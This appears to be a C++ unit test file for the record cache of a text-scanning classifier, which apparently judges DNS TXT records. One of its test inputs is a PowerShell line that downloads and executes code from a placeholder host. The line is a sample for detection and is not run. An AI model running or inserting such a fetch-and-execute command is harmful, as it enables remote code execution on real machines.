// A repeated record gets the same answer without being computed or judged again.
#include <gtest/gtest.h>

#include <future>
#include <string>
#include <utility>

#include "core/pipeline/classifier.h"
#include "tests/core/pipeline/same_answer.h"
#include "tests/support/random_model.h"

namespace txtsentry::pipeline {
namespace {

class ClassifierRecordCacheTest : public ::testing::Test {
 protected:
  ClassifierRecordCacheTest() : record_cache_(RecordCache::Create(1 << 20, {1, 2}).value()) {
    options_.engine.engine = "reference";
    options_.record_cache = record_cache_.get();
    Make();
  }

  void Make() { classifier_ = Classifier::Create(test::RandomModel(4), clock_, options_).value(); }

  std::vector<Result> Ask(std::vector<Record> records) {
    std::promise<std::vector<Result>> promise;
    const auto call = classifier_->Classify(
        std::move(records), {},
        [&promise](std::vector<Result> results) { promise.set_value(std::move(results)); });
    EXPECT_TRUE(call.ok()) << call.status();
    return promise.get_future().get();
  }

  const base::SteadyClock clock_{};
  const std::unique_ptr<RecordCache> record_cache_;
  ClassifierOptions options_;
  std::unique_ptr<Classifier> classifier_;
};

TEST_F(ClassifierRecordCacheTest, ARepeatedRecordGetsTheSameAnswer) {
  const std::vector<Record> records = {
      {"v=spf1 include:_spf.example.com ~all", ""},
      {"token", "_acme-challenge.example.org"},
      {"IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')", ""},
      {"q83vASNFZ4mrze8BI0VniavN7wEjRWeJq83vASNFZ4mrze8BI0VniQ==", ""},
      {"\xff\xfe not text", ""}};
  const auto first = Ask(records);
  const auto started = classifier_->Start(records, {}, [](const auto&) { FAIL() << "called"; });
  ASSERT_TRUE(started.ok()) << started.status();
  ASSERT_TRUE(started->results.has_value());
  const std::vector<Result>& again = *started->results;
  for (size_t i = 0; i < records.size(); ++i) {
    EXPECT_FALSE(first[i].cached) << i;
    EXPECT_TRUE(again[i].cached) << i;
    ExpectSameAnswer(again[i], first[i]);
  }
  EXPECT_EQ(classifier_->stats().rows_scored, static_cast<int64_t>(records.size()));
}

TEST_F(ClassifierRecordCacheTest, ComputesOnlyNewRecords) {
  Ask({{"old", ""}});
  const auto results = Ask({{"new", ""}, {"old", ""}, {"", ""}, {std::string(70'000, 'x'), ""}});
  EXPECT_FALSE(results[0].cached);
  EXPECT_TRUE(results[1].cached);
  EXPECT_FALSE(results[2].cached);
  EXPECT_EQ(results[3].status.code(), absl::StatusCode::kInvalidArgument);
  EXPECT_EQ(classifier_->stats().rows_scored, 2);
  // Empty and refused records are not stored.
  EXPECT_EQ(record_cache_->stats().entries, 2);
}

TEST_F(ClassifierRecordCacheTest, AnotherOwnerIsAnotherRecord) {
  Ask({{"text", ""}});
  EXPECT_FALSE(Ask({{"text", "a.example"}})[0].cached);
}

TEST_F(ClassifierRecordCacheTest, ClassifiersDoNotShareAnswers) {
  Ask({{"text", ""}});
  options_.judge.policy = rules::Policy::kTriage;
  Make();
  EXPECT_FALSE(Ask({{"text", ""}})[0].cached);
}

TEST_F(ClassifierRecordCacheTest, StoresAndFindsNothingWhileOff) {
  classifier_->set_cache_on(false);
  Ask({{"text", ""}});
  EXPECT_EQ(record_cache_->stats().entries, 0);
  classifier_->set_cache_on(true);
  Ask({{"text", ""}});
  classifier_->set_cache_on(false);
  EXPECT_FALSE(Ask({{"text", ""}})[0].cached);
}

}  // namespace
}  // namespace txtsentry::pipeline
